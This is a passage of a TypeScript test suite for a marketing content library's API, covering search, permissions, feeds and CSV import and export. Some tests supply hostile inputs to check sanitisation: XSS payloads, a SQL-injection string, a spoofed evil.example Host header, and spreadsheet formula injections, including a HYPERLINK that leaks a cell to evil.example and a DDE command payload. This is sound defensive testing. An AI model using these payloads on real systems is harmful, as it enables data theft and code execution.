import { readFileSync } from 'node:fs';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestContext, type TestContext } from '../../../test/app.ts';
import { createTestAsset } from '../../../test/factories.ts';
import { createAsset, createList, termIds } from '../../../test/library-helpers.ts';
import { resolveWords } from './library.search.repository.ts';
import { archiveExpiredAssets, visibleStatuses } from './library.service.ts';

let t: TestContext;
let tmm: Awaited<ReturnType<TestContext['as']>>;
let requester: Awaited<ReturnType<TestContext['as']>>;
let viewer: Awaited<ReturnType<TestContext['as']>>;
let term: Awaited<ReturnType<typeof termIds>>;
let listId: string;

beforeAll(async () => {
  t = await createTestContext();
  t.clock.now = new Date('2026-06-15T12:00:00Z');
  tmm = await t.as('tmm');
  requester = await t.as('requester');
  viewer = await t.as('viewer');
  term = await termIds(tmm);
  listId = await createList(tmm, 'Field favourites');
});
afterAll(() => t.close());

describe('assets', () => {
  it('creates an asset with its taxonomy and returns format-rule warnings instead of silently accepting', async () => {
    const asset = await createAsset(tmm, listId, {
      title: 'Five-minute pipeline security',
      formatId: term('format', 'Lightning talk'),
      slideCount: 7,
      solutionIds: [term('solution', 'Software Security (DevSecOps)')],
      personaIds: [term('persona', 'Security Engineer')],
      visibility: 'external',
      safeToShare: false,
    });
    expect(asset.solutions).toEqual([
      { id: term('solution', 'Software Security (DevSecOps)'), name: 'Software Security (DevSecOps)' },
    ]);
    expect(asset.warnings.map((w: { field: string }) => w.field).sort()).toEqual([
      'safeToShare',
      'slideCount',
    ]);
    const clickThrough = await createAsset(tmm, listId, {
      title: 'Tour',
      formatId: term('format', 'Click-through demo'),
      stepCount: 14,
    });
    expect(clickThrough.warnings[0].message).toContain('8–12 steps');
    const video = await createAsset(tmm, listId, { title: 'Video', formatId: term('format', 'Demo video') });
    expect(video.warnings.map((w: { field: string }) => w.field)).toEqual(['keyTakeaway']);
  });

  it('publishes only with a summary and a list, then dates it and sets expiry a year out', async () => {
    const refused = await tmm.post('/api/assets', { title: 'Unready', status: 'published' });
    expect(refused.status).toBe(422);
    expect(Object.keys(refused.body.error.fields).sort()).toEqual(['listIds', 'summary']);
    const draft = await tmm.post('/api/assets', { title: 'Getting ready', summary: 'Now it has one.' });
    expect(draft.body.status).toBe('draft');
    const published = await tmm.patch(`/api/assets/${draft.body.id}`, {
      status: 'published',
      listIds: [listId],
    });
    expect(published.body).toMatchObject({
      status: 'published',
      publishedOn: '2026-06-15',
      expiresOn: '2027-06-15',
    });
  });

  it('refuses an expiry before the publish date and a verification in the future, naming the field', async () => {
    const early = await tmm.post('/api/assets', {
      title: 'Expires before it starts',
      publishedOn: '2026-06-01',
      expiresOn: '2026-05-01',
    });
    expect(early.status).toBe(422);
    expect(Object.keys(early.body.error.fields)).toEqual(['expiresOn']);
    const future = await tmm.post('/api/assets', {
      title: 'Verified tomorrow',
      lastVerifiedOn: '2026-06-16',
    });
    expect(future.status).toBe(422);
    expect(Object.keys(future.body.error.fields)).toEqual(['lastVerifiedOn']);
    const asset = await createAsset(tmm, listId, { title: 'Dated properly', lastVerifiedOn: '2026-06-15' });
    const moved = await tmm.patch(`/api/assets/${asset.id}`, { expiresOn: '2026-06-14' });
    expect(moved.status).toBe(422);
    expect(moved.body.error.fields).toHaveProperty('expiresOn');
    expect((await tmm.patch(`/api/assets/${asset.id}`, { expiresOn: '2026-06-15' })).status).toBe(200);
  });

  it('shows drafts only to editors, and archived assets not to viewers', async () => {
    const draft = await tmm.post('/api/assets', { title: 'Secret plan' });
    expect((await requester.get(`/api/assets/${draft.body.id}`)).status).toBe(404);
    expect((await viewer.get(`/api/assets/${draft.body.id}`)).status).toBe(404);
    await createAsset(tmm, listId, { title: 'Current news' });
    const archived = await createAsset(tmm, listId, { title: 'Old news' });
    await tmm.patch(`/api/assets/${archived.id}`, { status: 'archived' });
    expect((await requester.get(`/api/assets/${archived.id}`)).status).toBe(200);
    expect((await viewer.get(`/api/assets/${archived.id}`)).status).toBe(404);
    const viewerSearch = (await viewer.get('/api/assets?limit=100')).body;
    expect(viewerSearch.hits.every((hit: { status: string }) => hit.status === 'published')).toBe(true);
    expect(viewerSearch.facets.status.map((f: { value: string }) => f.value)).toEqual(['published']);
    expect((await viewer.patch(`/api/assets/${archived.id}`, { title: 'x' })).status).toBe(403);
  });

  it('renders Markdown with scripts and handlers made inert', async () => {
    const asset = await createAsset(tmm, listId, {
      title: 'Markdown test',
      body: '# Hello\n\n<script>alert(1)</script>\n\n<img src="x" onerror="alert(2)">\n\n[click](javascript:alert(3)) **bold**',
    });
    expect(asset.bodyHtml).toContain('<h1>Hello</h1>');
    expect(asset.bodyHtml).toContain('<strong>bold</strong>');
    expect(asset.bodyHtml).not.toMatch(/<script|onerror|javascript:/i);
    expect(asset.body).toContain('<script>');
  });

  it('turns images from other sites into links and keeps only the code classes the renderer writes', async () => {
    const asset = await createAsset(tmm, listId, {
      title: 'Pixels',
      body: [
        '![pixel](https://tracker.example/p.gif)',
        '<img src="//tracker.example/q.gif">',
        '![local](/logo.png)',
        '```ts\nconst a = 1;\n```',
        '<code class="hidden overlay language-js">x</code>',
      ].join('\n\n'),
    });
    expect(asset.bodyHtml).not.toMatch(/<img[^>]+tracker\.example/);
    expect(asset.bodyHtml).toContain('<a href="https://tracker.example/p.gif"');
    expect(asset.bodyHtml).toContain('>pixel</a>');
    expect(asset.bodyHtml).toContain('<img src="/logo.png"');
    expect(asset.bodyHtml).toContain('<code class="language-ts">');
    expect(asset.bodyHtml).toContain('<code class="language-js">x</code>');
    expect(asset.bodyHtml).not.toMatch(/hidden|overlay/);
  });

  it('embeds YouTube and Vimeo links through privacy-friendly players', async () => {
    const asset = await createAsset(tmm, listId, {
      title: 'Embedded',
      primaryUrl: 'https://www.youtube.com/watch?v=dQw4w9WgXcQ',
    });
    expect(asset.embed).toEqual({
      kind: 'youtube',
      src: 'https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ',
    });
  });

  it('keeps a version per change and restores an earlier one as a new version', async () => {
    const asset = await createAsset(tmm, listId, { title: 'Versioned', summary: 'First words.' });
    await tmm.patch(`/api/assets/${asset.id}`, { summary: 'Second words.', tags: ['kubernetes'] });
    const versions = (await tmm.get(`/api/assets/${asset.id}/versions`)).body.versions;
    expect(versions.map((v: { version: number }) => v.version)).toEqual([2, 1]);
    expect(versions[0].changes.sort()).toEqual(['summary', 'tags']);
    expect(versions[0].actor.id).toBe(tmm.userId);
    const restored = await tmm.post(`/api/assets/${asset.id}/versions/1/restore`, {});
    expect(restored.status).toBe(200);
    expect(restored.body).toMatchObject({ summary: 'First words.', tags: [], version: 3 });
    const after = (await tmm.get(`/api/assets/${asset.id}/versions`)).body.versions;
    expect(after[0]).toMatchObject({ version: 3, note: 'Restored version 1' });
    expect((await tmm.post(`/api/assets/${asset.id}/versions/9/restore`, {})).status).toBe(404);
  });

  it('shows what a restore would change, field by field and in words, before it is made', async () => {
    const asset = await createAsset(tmm, listId, {
      title: 'Diffed',
      summary: 'First words.',
      keyTakeaway: 'Old takeaway',
    });
    await tmm.patch(`/api/assets/${asset.id}`, {
      summary: 'Second words.',
      keyTakeaway: 'New takeaway',
      solutionIds: [term('solution', 'Software Security (DevSecOps)')],
    });
    const diff = await tmm.get(`/api/assets/${asset.id}/versions/1/diff`);
    expect(diff.status).toBe(200);
    expect(diff.body.version).toBe(1);
    expect(diff.body.changes).toEqual([
      { field: 'summary', label: 'Summary', current: 'Second words.', restored: 'First words.' },
      { field: 'solutionIds', label: 'Solutions', current: 'Software Security (DevSecOps)', restored: '—' },
      { field: 'keyTakeaway', label: 'Key takeaway', current: 'New takeaway', restored: 'Old takeaway' },
    ]);
    // Looking changes nothing; the latest version differs from nothing.
    expect((await tmm.get(`/api/assets/${asset.id}/versions/2/diff`)).body.changes).toEqual([]);
    expect((await tmm.get(`/api/assets/${asset.id}/versions/9/diff`)).status).toBe(404);
    expect((await viewer.get(`/api/assets/${asset.id}/versions/1/diff`)).status).toBe(403);
  });

  it('refuses bad input naming the field, and loses nothing', async () => {
    const asset = await createAsset(tmm, listId, { title: 'Stable' });
    const bad = await tmm.patch(`/api/assets/${asset.id}`, {
      title: 'x'.repeat(301),
      visibility: 'public',
      formatId: term('persona', 'DevOps Engineer'),
      links: [{ kind: 'video', url: 'ftp://example.com' }],
    });
    expect(bad.status).toBe(422);
    expect(Object.keys(bad.body.error.fields).sort()).toEqual(['links.0.url', 'title', 'visibility']);
    const wrongKind = await tmm.patch(`/api/assets/${asset.id}`, {
      formatId: term('persona', 'DevOps Engineer'),
    });
    expect(wrongKind.body.error.fields).toEqual({ formatId: 'must be a format id' });
    expect((await tmm.get(`/api/assets/${asset.id}`)).body).toMatchObject({ title: 'Stable', version: 1 });
  });
});

describe('search', () => {
  // A database of its own: the assets other tests add (imports bring dozens about Kubernetes)
  // would change every ranking and count asserted here, depending on which ran first.
  let t: TestContext;
  let tmm: Awaited<ReturnType<TestContext['as']>>;
  let viewer: Awaited<ReturnType<TestContext['as']>>;
  let term: Awaited<ReturnType<typeof termIds>>;
  let listId: string;
  let kubernetesId: string;
  beforeAll(async () => {
    t = await createTestContext();
    t.clock.now = new Date('2026-06-15T12:00:00Z');
    tmm = await t.as('tmm');
    viewer = await t.as('viewer');
    term = await termIds(tmm);
    listId = await createList(tmm, 'Field favourites');
    const local = await createList(tmm, 'Search corpus');
    const cd = term('use_case', 'CD');
    const ci = term('use_case', 'CI');
    kubernetesId = (
      await createAsset(tmm, local, {
        title: 'Deploying to Kubernetes with progressive delivery',
        summary: 'Canary and blue-green rollouts from a merge request.',
        useCaseIds: [cd],
        formatId: term('format', 'Demo video'),
        keyTakeaway: 'Ship safely.',
      })
    ).id;
    await createAsset(tmm, local, {
      title: 'Pipeline caching explained',
      summary: 'Make CI faster by caching dependencies; also works for Kubernetes runners.',
      useCaseIds: [ci],
      formatId: term('format', 'Blog post'),
    });
    await createAsset(tmm, local, {
      title: 'Compliance frameworks in practice',
      summary: 'Audit events and separation of duties.',
      body: 'Mentions kubernetes once, deep in the body.',
      formatId: term('format', 'White paper / e-book'),
      visibility: 'external',
      safeToShare: true,
    });
  });

  afterAll(() => t.close());

  it('finds the right asset first for a typo in the title', async () => {
    const result = (await viewer.get(`/api/assets?q=${encodeURIComponent('kubernets')}`)).body;
    expect(result.hits[0].id).toBe(kubernetesId);
    const dropped = (await viewer.get(`/api/assets?q=${encodeURIComponent('delvery')}`)).body;
    expect(dropped.hits[0]?.id).toBe(kubernetesId);
  });

  it('ranks a title match above summary and body matches, and highlights the match', async () => {
    const result = (await viewer.get('/api/assets?q=kubernetes')).body;
    expect(result.hits.map((h: { title: string }) => h.title).slice(0, 3)).toEqual([
      'Deploying to Kubernetes with progressive delivery',
      'Pipeline caching explained',
      'Compliance frameworks in practice',
    ]);
    const second = result.hits[1].snippet;
    expect(
      second.some(
        (part: { text: string; highlight: boolean }) => part.highlight && /kubernetes/i.test(part.text),
      ),
    ).toBe(true);
  });

  it('matches prefixes while typing', async () => {
    const result = (await viewer.get('/api/assets?q=progressive%20deliv')).body;
    expect(result.hits[0].id).toBe(kubernetesId);
  });

  it('keeps words joined by a slash as one word, as the index holds them ("ci/cd")', async () => {
    const local = await createList(tmm, 'Slash corpus');
    const pipeline = await createAsset(tmm, local, {
      title: 'A CI/CD pipeline in ten minutes',
      summary: 'From the first commit to production.',
    });
    await createAsset(tmm, local, {
      title: 'Continuous integration basics',
      summary: 'Why CI matters; CD comes later.',
    });
    const result = (await viewer.get(`/api/assets?q=${encodeURIComponent('ci/cd')}`)).body;
    expect(result.hits.map((h: { id: string }) => h.id)).toEqual([pipeline.id]);
    expect(result.total).toBe(1);
    // The box is split by PostgreSQL's own parser, as the index was: in brackets, after a comma,
    // upper-cased, it is still the one token.
    for (const box of ['(CI/CD)', 'pipeline, ci/cd', 'CI/CD pipeline']) {
      const found = (await viewer.get(`/api/assets?q=${encodeURIComponent(box)}`)).body;
      expect(found.hits.map((h: { id: string }) => h.id)).toEqual([pipeline.id]);
    }
  });

  it('reads a hyphenated word and a version number as the index holds them', async () => {
    const local = await createList(tmm, 'Parser corpus');
    const hyphen = await createAsset(tmm, local, {
      title: 'Self-managed runners at scale',
      summary: 'Sizing for release 17.4.2 and later.',
    });
    await createAsset(tmm, local, { title: 'Managed self service', summary: 'Release 17 notes.' });
    const managed = (await viewer.get(`/api/assets?q=${encodeURIComponent('self-managed')}`)).body;
    expect(managed.hits.map((h: { id: string }) => h.id)).toEqual([hyphen.id]);
    const version = (await viewer.get(`/api/assets?q=${encodeURIComponent('17.4.2 ')}`)).body;
    expect(version.hits.map((h: { id: string }) => h.id)).toEqual([hyphen.id]);
  });

  it('matches the last word as a prefix only while it is being typed, not once quoted', async () => {
    const local = await createList(tmm, 'Prefix corpus');
    const owner = await createAsset(tmm, local, {
      title: 'Code owner approvals',
      summary: 'Who reviews what.',
    });
    const ownership = await createAsset(tmm, local, {
      title: 'Total cost of ownership',
      summary: 'A model for the budget.',
    });
    const typing = (await viewer.get(`/api/assets?q=${encodeURIComponent('owner')}`)).body;
    expect(typing.hits.map((h: { id: string }) => h.id)).toEqual(
      expect.arrayContaining([owner.id, ownership.id]),
    );
    const finished = (await viewer.get(`/api/assets?q=${encodeURIComponent('"owner"')}`)).body;
    expect(finished.hits.map((h: { id: string }) => h.id)).toContain(owner.id);
    expect(finished.hits.map((h: { id: string }) => h.id)).not.toContain(ownership.id);
  });

  it('combines text with facet filters, and counts facets over the matches', async () => {
    const all = (await viewer.get('/api/assets?q=kubernetes')).body;
    const formats = Object.fromEntries(
      all.facets.format.map((f: { label: string; count: number }) => [f.label, f.count]),
    );
    expect(formats).toMatchObject({ 'Demo video': 1, 'Blog post': 1, 'White paper / e-book': 1 });
    const filtered = (await viewer.get(`/api/assets?q=kubernetes&useCase=${term('use_case', 'CI')}`)).body;
    expect(filtered.total).toBe(1);
    expect(filtered.hits[0].title).toBe('Pipeline caching explained');
    const twoFacets = (
      await viewer.get(
        `/api/assets?q=kubernetes&visibility=external&format=${term('format', 'White paper / e-book')}`,
      )
    ).body;
    expect(twoFacets.hits.map((h: { title: string }) => h.title)).toEqual([
      'Compliance frameworks in practice',
    ]);
    expect(twoFacets.facets.visibility).toEqual([{ value: 'external', label: 'External', count: 1 }]);
  });

  it('sorts by most viewed', async () => {
    const { hits } = (await viewer.get('/api/assets?q=kubernetes')).body;
    const last = hits.at(-1).id;
    for (let i = 0; i < 3; i++) await viewer.post(`/api/assets/${last}/views`);
    const sorted = (await viewer.get('/api/assets?q=kubernetes&sort=most_viewed')).body;
    expect(sorted.hits[0].id).toBe(last);
  });

  it('tolerates a typo in a word of the body, not only the title', async () => {
    const asset = await createAsset(tmm, listId, {
      title: 'Dashboards tour',
      body: 'Walks through the obsidian dashboards one panel at a time.',
    });
    const result = (await tmm.get('/api/assets?q=obsidain%20dashboards')).body;
    expect(result.hits.map((h: { id: string }) => h.id)).toEqual([asset.id]);
  });

  it('takes any text in the box: operators, quotes, stop words and other scripts answer 200', async () => {
    for (const q of [
      "it's",
      'a & b | !c',
      "'; DROP TABLE assets; --",
      '(',
      ':*',
      'the',
      'über straße',
      '🚀',
    ]) {
      const response = await viewer.get(`/api/assets?q=${encodeURIComponent(q)}`);
      expect(response.status, q).toBe(200);
    }
    // A stop word as the unfinished last word is matched as a prefix ("the" → "theme").
    const theme = await createAsset(tmm, listId, { title: 'Theme gallery' });
    expect((await tmm.get('/api/assets?q=the')).body.hits.map((h: { id: string }) => h.id)).toContain(
      theme.id,
    );
  });

  it('follows every write at once: rename, new terms, archive, restore', async () => {
    const find = async (q: string, extra = '') =>
      (await tmm.get(`/api/assets?q=${encodeURIComponent(q)}${extra}`)).body as {
        total: number;
        hits: { id: string }[];
        facets: { solution: { value: string; count: number }[] };
      };
    const asset = await createAsset(tmm, listId, {
      title: 'Quasar telemetry tour',
      body: 'Walks through zircon dashboards.',
      solutionIds: [term('solution', 'Software Security (DevSecOps)')],
    });
    expect((await find('zircon')).hits.map((h) => h.id)).toEqual([asset.id]);

    await tmm.patch(`/api/assets/${asset.id}`, {
      title: 'Nebula telemetry tour',
      body: 'Walks through basalt dashboards.',
      solutionIds: [term('solution', 'Automated Software Delivery')],
    });
    expect((await find('quasar')).total).toBe(0);
    expect((await find('zircon')).total).toBe(0);
    const renamed = await find('nebula basalt');
    expect(renamed.hits.map((h) => h.id)).toEqual([asset.id]);
    expect(renamed.facets.solution).toEqual([
      expect.objectContaining({ value: term('solution', 'Automated Software Delivery'), count: 1 }),
    ]);

    await tmm.patch(`/api/assets/${asset.id}`, { status: 'archived' });
    expect((await find('nebula', '&status=published')).total).toBe(0);
    expect((await find('nebula', '&status=archived')).total).toBe(1);

    await tmm.post(`/api/assets/${asset.id}/versions/1/restore`, {});
    expect((await find('quasar zircon')).hits.map((h) => h.id)).toEqual([asset.id]);
    expect((await find('nebula')).total).toBe(0);
  });

  it('refuses an invalid filter with the field named', async () => {
    const response = await viewer.get('/api/assets?status=lost&sort=random');
    expect(response.status).toBe(422);
    expect(Object.keys(response.body.error.fields).sort()).toEqual(['sort', 'status.0']);
  });
});

describe('expiry', () => {
  it('archives expired assets (never deletes them), records a version and tells the owner', async () => {
    const asset = await createAsset(tmm, listId, {
      title: 'Aging demo',
      ownerId: tmm.userId,
      publishedOn: '2025-06-10',
      expiresOn: '2026-06-10',
    });
    const archived = await archiveExpiredAssets({ db: t.db, today: '2026-06-15' });
    expect(archived.map((row) => row.id)).toContain(asset.id);
    const after = (await tmm.get(`/api/assets/${asset.id}`)).body;
    expect(after).toMatchObject({ status: 'archived', freshness: 'expired' });
    const versions = (await tmm.get(`/api/assets/${asset.id}/versions`)).body.versions;
    expect(versions[0].note).toContain('expired');
    const notes = (await tmm.get('/api/notifications')).body;
    expect(notes.notifications.some((n: { title: string }) => n.title.includes('Aging demo'))).toBe(true);
    expect(await archiveExpiredAssets({ db: t.db, today: '2026-06-15' })).toEqual([]);
    const renewed = await tmm.patch(`/api/assets/${asset.id}`, {
      status: 'published',
      expiresOn: '2027-06-15',
      lastVerifiedOn: '2026-06-15',
    });
    expect(renewed.body).toMatchObject({ status: 'published', freshness: 'fresh' });
  });
});

describe('outsider paths never carry internal content', () => {
  it('links feeds to the listening address, never to the Host header a client sent', async () => {
    await createAsset(tmm, listId, { title: 'Hosted tutorial', visibility: 'external', safeToShare: true });
    for (const format of ['atom', 'rss']) {
      const response = await t.app.request(`http://evil.example/feeds/library/${format}`, {
        headers: { host: 'evil.example', 'x-forwarded-host': 'evil.example' },
      });
      const feed = await response.text();
      expect(feed).toContain('Hosted tutorial');
      expect(feed).not.toContain('evil.example');
      expect(feed).toContain('http://localhost:3000/');
    }
  });

  it('keeps internal assets out of the feeds and the external export', async () => {
    const solution = term('solution', 'Automated Software Delivery');
    await createAsset(tmm, listId, {
      title: 'Internal battlecard',
      visibility: 'internal',
      solutionIds: [solution],
    });
    await createAsset(tmm, listId, {
      title: 'Public tutorial',
      visibility: 'external',
      safeToShare: true,
      solutionIds: [solution],
    });
    const atom = await t.anonymous().get(`/feeds/library/atom?solution=${solution}`);
    expect(atom.headers.get('content-type')).toContain('atom');
    expect(atom.body).toContain('Public tutorial');
    expect(atom.body).not.toContain('Internal battlecard');
    const rss = await t.anonymous().get('/feeds/library/rss');
    expect(rss.body).toContain('<rss');
    expect(rss.body).not.toContain('Internal battlecard');
    const external = await viewer.get('/api/assets/export?audience=external');
    expect(external.body).toContain('Public tutorial');
    expect(external.body).not.toContain('Internal battlecard');
    expect(external.body).not.toContain(',internal,');
  });

  it('keeps an external asset nobody has confirmed safe to share out of the feeds and the export', async () => {
    await createAsset(tmm, listId, {
      title: 'Unvetted customer story',
      visibility: 'external',
      safeToShare: false,
    });
    for (const path of ['/feeds/library/atom', '/feeds/library/rss'])
      expect((await t.anonymous().get(path)).body).not.toContain('Unvetted customer story');
    expect((await viewer.get('/api/assets/export?audience=external')).body).not.toContain(
      'Unvetted customer story',
    );
    // Insiders still find it: it is only kept from leaving.
    expect((await viewer.get('/api/assets?q=Unvetted')).body.total).toBe(1);
  });
});

describe('what a caller cannot see leaves no trace', () => {
  it('counts in each list only the assets the caller may see', async () => {
    const list = await createList(tmm, 'Mixed statuses');
    await createAsset(tmm, list, { title: 'Counted: published one' });
    await createAsset(tmm, list, { title: 'Counted: published two' });
    await createAsset(tmm, list, { title: 'Counted: draft', status: 'draft' });
    const archived = await createAsset(tmm, list, { title: 'Counted: archived' });
    await tmm.patch(`/api/assets/${archived.id}`, { status: 'archived' });
    for (const [caller, expected] of [
      [viewer, 2],
      [requester, 3],
      [tmm, 4],
    ] as const) {
      const lists = (await caller.get('/api/lists')).body.lists as { id: string; assetCount: number }[];
      const visible = (await caller.get(`/api/assets?list=${list}&limit=100`)).body;
      expect(lists.find((l) => l.id === list)?.assetCount).toBe(expected);
      expect(visible.total).toBe(expected);
      expect(visible.hits).toHaveLength(expected);
    }
  });

  it('counts facets and totals, and picks related assets, among visible assets only', async () => {
    const list = await createList(tmm, 'Facet leak check');
    const format = term('format', 'Webinar');
    const useCase = term('use_case', 'GitOps');
    const taxonomy = {
      formatId: format,
      useCaseIds: [useCase],
      personaIds: [term('persona', 'Platform Engineer')],
      solutionIds: [term('solution', 'Automated Software Delivery')],
    };
    const shown = await createAsset(tmm, list, { title: 'Facets: published', ...taxonomy });
    await createAsset(tmm, list, { title: 'Facets: draft', status: 'draft', ...taxonomy });
    const result = (await viewer.get(`/api/assets?list=${list}`)).body;
    expect(result.total).toBe(1);
    expect(result.facets.status).toEqual([expect.objectContaining({ value: 'published', count: 1 })]);
    expect(result.facets.format).toEqual([expect.objectContaining({ value: format, count: 1 })]);
    expect(result.facets.useCase).toEqual([expect.objectContaining({ value: useCase, count: 1 })]);
    const related = (await viewer.get(`/api/assets/${shown.id}/related`)).body.assets as { title: string }[];
    expect(related.map((a) => a.title)).not.toContain('Facets: draft');
    const forEditor = (await tmm.get(`/api/assets/${shown.id}/related`)).body.assets as { title: string }[];
    expect(forEditor.map((a) => a.title)).toContain('Facets: draft');
  });

  it('never corrects a viewer’s search towards words only drafts contain', async () => {
    const visible = await createAsset(tmm, listId, {
      title: 'Marzipanol tasting notes',
      visibility: 'external',
    });
    await createAsset(tmm, listId, {
      title: 'Unannounced launch',
      body: 'Codename marzipanel ships next quarter.',
      status: 'draft',
    });
    const search = async (client: typeof viewer, q: string) =>
      (await client.get(`/api/assets?q=${encodeURIComponent(q)}`)).body.hits as {
        id: string;
        title: string;
      }[];
    // The draft's word is unknown to a viewer, so it is forgiven as a typo of a word they can see…
    expect((await search(viewer, 'marzipanel')).map((h) => h.id)).toEqual([visible.id]);
    // …and an editor, who sees the draft, finds the draft by it.
    expect((await search(tmm, 'marzipanel')).map((h) => h.title)).toEqual(['Unannounced launch']);
    // The lexicon a viewer's typo is corrected from holds only words of what they may see.
    const [typo] = await resolveWords(t.db, 'marzipanxl tasting', { statuses: visibleStatuses('viewer') });
    expect(typo?.near).toEqual(['marzipanol']);
    const [editorTypo] = await resolveWords(t.db, 'marzipanxl tasting', { statuses: visibleStatuses('tmm') });
    expect(editorTypo?.near).toContain('marzipanel');
  });
});

describe('CSV exports', () => {
  const parse = async (csv: string) => {
    const Papa = (await import('papaparse')).default;
    const parsed = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true });
    return { rows: parsed.data, columns: parsed.meta.fields ?? [] };
  };

  it('hands outsiders only outsider columns: no people, lists, tags, body or bookkeeping', async () => {
    const contributor = await t.as('tmm');
    const owner = await t.as('tmm');
    const ownerEmail = (await owner.get('/api/auth/session')).body.user.email as string;
    const contributorEmail = (await contributor.get('/api/auth/session')).body.user.email as string;
    const internalList = await createList(tmm, 'Competitive deals (internal)');
    const asset = await createAsset(tmm, internalList, {
      title: 'Partner-ready tutorial',
      summary: 'How to set up the pipeline.',
      body: 'Internal note: the customer in the screenshots is Acme.',
      keyTakeaway: 'Pitch it against the incumbent',
      visibility: 'external',
      safeToShare: true,
      ownerId: owner.userId,
      contributorIds: [contributor.userId],
      tags: ['deal-desk'],
      externalKey: 'partner-tutorial-key',
      primaryUrl: 'https://example.test/partner-tutorial',
      solutionIds: [term('solution', 'Automated Software Delivery')],
    });
    const response = await viewer.get('/api/assets/export?audience=external');
    expect(response.status).toBe(200);
    const csv = response.body as string;
    for (const secret of [
      ownerEmail,
      contributorEmail,
      'Competitive deals (internal)',
      'Internal note',
      'incumbent',
      'deal-desk',
      'partner-tutorial-key',
      asset.id,
    ])
      expect(csv, secret).not.toContain(secret);
    const { rows, columns } = await parse(csv);
    for (const column of ['owner_email', 'contributor_emails', 'lists', 'body', 'visibility', 'status', 'id'])
      expect(columns).not.toContain(column);
    expect(rows.find((row) => row.title === 'Partner-ready tutorial')).toMatchObject({
      summary: 'How to set up the pipeline.',
      solutions: 'Automated Software Delivery',
      primary_url: 'https://example.test/partner-tutorial',
      published_on: '2026-06-15',
    });
    // The internal export still carries them, for the team itself.
    const internal = (await tmm.get('/api/assets/export')).body as string;
    expect(internal).toContain(ownerEmail);
    expect(internal).toContain('Competitive deals (internal)');
  });

  it('escapes cells that spreadsheets would run as formulas, and the import reads them back unchanged', async () => {
    const hostile = {
      title: '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
      summary: '@SUM(1+1)',
      body: "\r=cmd|' /C calc'!A0",
      keyTakeaway: "'=already quoted",
      tags: ['+plus', '-minus', "'quoted"],
    };
    const asset = await createAsset(tmm, listId, {
      ...hostile,
      visibility: 'external',
      safeToShare: true,
      primaryUrl: 'https://example.test/hostile',
    });
    const ends = ['=', '+', '-', '@', '\t', '\r'];
    for (const audience of ['internal', 'external']) {
      const { rows } = await parse((await tmm.get(`/api/assets/export?audience=${audience}`)).body);
      const row = rows.find((r) => r.primary_url === 'https://example.test/hostile');
      expect(row, audience).toBeDefined();
      for (const [column, value] of Object.entries(row ?? {}))
        expect(ends.includes(value.charAt(0)), `${audience} ${column}: ${value}`).toBe(false);
      expect(row?.title).toBe(`'${hostile.title}`);
      expect(row?.summary).toBe(`'${hostile.summary}`);
    }
    const { rows } = await parse((await tmm.get('/api/assets/export')).body);
    const row = rows.find((r) => r.id === asset.id) as Record<string, string>;
    expect(row.body).toBe(`'${hostile.body}`);
    expect(row.key_takeaway).toBe(`''=already quoted`);
    expect(row.tags).toBe(`'+plus; -minus; 'quoted`);
    const result = (await tmm.post('/api/assets/import', { rows: [row] })).body;
    expect(result.outcomes[0]).toMatchObject({ action: 'unchanged', id: asset.id });
    expect((await tmm.get(`/api/assets/${asset.id}`)).body).toMatchObject({ ...hostile, version: 1 });
  });
});

describe('lists', () => {
  it('shows one asset in many lists, and refuses to delete the only list of a published asset', async () => {
    const a = await createList(tmm, 'Alpha');
    const b = await createList(tmm, 'Beta');
    const asset = await createAsset(tmm, a, { title: 'Shared asset', listIds: [a, b] });
    expect(asset.lists.map((l: { name: string }) => l.name)).toEqual(['Alpha', 'Beta']);
    expect((await tmm.delete(`/api/lists/${a}`)).status).toBe(200);
    const refused = await tmm.delete(`/api/lists/${b}`);
    expect(refused.status).toBe(409);
    expect(refused.body.error.message).toContain('Shared asset');
    const inList = (await viewer.get(`/api/assets?list=${b}`)).body;
    expect(inList.hits.map((h: { title: string }) => h.title)).toEqual(['Shared asset']);
  });
});

describe('import and export', () => {
  const fixtures = new URL('../../../../shared/fixtures/gitlab/', import.meta.url);

  it('imports every entry of GitLab’s resources.yml, reports unknown values, and changes nothing the second time', async () => {
    const content = readFileSync(new URL('resources.yml', fixtures), 'utf8');
    const entries = (content.match(/^- title:/gm) ?? []).length;
    const forrester = async () => (await tmm.get('/api/assets?q=Forrester')).body.total as number;
    const before = await forrester();
    const dry = (await tmm.post('/api/assets/import/gitlab', { kind: 'resources', content, dryRun: true }))
      .body;
    expect(dry.counts).toEqual({ create: entries, update: 0, unchanged: 0, reject: 0 });
    expect(await forrester()).toBe(before);
    const first = (await tmm.post('/api/assets/import/gitlab', { kind: 'resources', content })).body;
    expect(first.counts.create).toBe(entries);
    const reported = first.outcomes.flatMap((o: { problems: string[] }) => o.problems).join('\n');
    expect(reported).toContain('“Distributed teams” matches no solution');
    expect(reported).toContain('type “Assessment” matches no content format');
    const second = (await tmm.post('/api/assets/import/gitlab', { kind: 'resources', content })).body;
    expect(second.counts).toEqual({ create: 0, update: 0, unchanged: entries, reject: 0 });
    const report = (await tmm.get(`/api/assets?q=${encodeURIComponent('Forrester Consulting Study')}`)).body
      .hits[0];
    expect(report.format.name).toBe('Report');
    expect(report.visibility).toBe('external');
  });

  it('imports GitLab’s webcasts.yml as webinars with their Markdown bodies', async () => {
    const content = readFileSync(new URL('webcasts.yml', fixtures), 'utf8');
    const entries = (content.match(/^- url:/gm) ?? []).length;
    const first = (await tmm.post('/api/assets/import/gitlab', { kind: 'webcasts', content })).body;
    expect(first.counts.create).toBe(entries);
    const hit = (await tmm.get('/api/assets?q=Collaboration%20without%20Boundaries')).body.hits[0];
    const asset = (await tmm.get(`/api/assets/${hit.id}`)).body;
    expect(asset.format.name).toBe('Webinar');
    expect(asset.bodyHtml).toContain('<h3>');
    expect(
      (await tmm.post('/api/assets/import/gitlab', { kind: 'webcasts', content })).body.counts.unchanged,
    ).toBe(entries);
  });

  it('rejects a malformed entry with its line, imports the rest, and refuses a file that is no list', async () => {
    const content =
      "- title: 'Fine entry'\n  url: /fine/\n  type: Report\n  teaser: ok\n- title: [unclosed\n  url: /broken/\n";
    const response = await tmm.post('/api/assets/import/gitlab', {
      kind: 'resources',
      content,
      dryRun: true,
    });
    expect(response.status).toBe(200);
    expect(response.body.counts).toMatchObject({ create: 1, reject: 1 });
    expect(response.body.outcomes[1].problems[0]).toMatch(/line 5: not valid YAML/);
